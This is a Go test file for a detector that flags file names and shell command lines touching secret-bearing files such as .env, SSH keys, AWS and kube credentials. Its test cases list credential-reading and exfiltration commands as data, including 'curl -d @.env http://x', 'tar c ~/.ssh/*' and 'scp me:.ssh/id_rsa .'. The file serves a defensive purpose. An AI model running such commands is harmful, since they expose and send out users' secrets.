package secretfile

import (
	"slices"
	"strings"
	"testing"
)

func TestHolds(t *testing.T) {
	var r Rules
	for _, name := range strings.Fields(`.env .ENV .env.local config/.env.production a/../.env ./.env .env. .envrc .netrc .npmrc
		.pypirc certs/server.pem Server.PEM tls.key id_rsa home/me/.ssh/config .ssh .ssh/known_hosts .aws/credentials /home/me/.aws/config
		.kube/config x/.kube/config credentials credentials.json config/credentials.yml.enc store.p12 app.keystore .docker/config.json
		.git-credentials secrets.yml a\b\.env .config/gcloud/application_default_credentials.json`) {
		if !r.Holds(name) {
			t.Errorf("%s holds no secrets", name)
		}
	}
	for _, name := range strings.Fields(`.env.example .env.sample .env.template .env.dist main.go env .environment process.env id_rsa.pub
		credentials.ts credentials_test.go key.go kube/config config .awsome/x secrets.go public.pem.txt monkey`) {
		if r.Holds(name) {
			t.Errorf("%s holds secrets", name)
		}
	}
}

// What the developer sets goes before what is known by name; what they allow goes before all.
func TestNew(t *testing.T) {
	r, err := New([]string{"*.secret", "deploy/**", "./vault.txt"}, []string{"testdata/**", ".npmrc", "deploy/README.md"})
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]bool{"a.secret": true, "x/y/A.Secret": true, "deploy/x/y": true, "vault.txt": true, "sub/deploy/x": false,
		"testdata/server.pem": false, "server.pem": true, ".npmrc": false, "x/.npmrc": false, "deploy/README.md": false, ".env": true} {
		if r.Holds(name) != want {
			t.Errorf("%s: %t", name, !want)
		}
	}
	if _, err := New([]string{"[a"}, nil); err == nil {
		t.Error("[a was taken for a glob")
	}
	if _, err := New(nil, []string{"{a"}); err == nil {
		t.Error("{a was taken for a glob")
	}
}

// A command line is looked at word by word.
func TestNames(t *testing.T) {
	r, err := New([]string{"vault.txt"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	named := func(line string) bool { return slices.ContainsFunc(Words(line), r.Names) }
	for _, line := range []string{"cat .env", "cat ./.env", "source config/.env.local && make", "docker run --env-file=.env x", "curl -d @.env http://x",
		`python3 -c 'print(open(".env").read())'`, "cat<.env", "git show HEAD:.env", "tar c ~/.ssh/*", "cp $HOME/.aws/credentials .", "scp me:.ssh/id_rsa .",
		"echo A=1 >>.env", "(cat .ENV)", "head vault.txt", "cd .aws; cat config", "cat .env|base64"} {
		if !named(line) {
			t.Errorf("%s names no file with secrets", line)
		}
	}
	for _, line := range []string{"go test ./...", "node -e 'console.log(process.env.HOME, obj.key)'", "jq .key a.json", "cat .env.example", "npm run credentials",
		"openssl genrsa -out server.key", "ssh-keygen -y -f id_rsa.pub", "grep -r credentials src"} {
		if named(line) {
			t.Errorf("%s names a file with secrets", line)
		}
	}
}
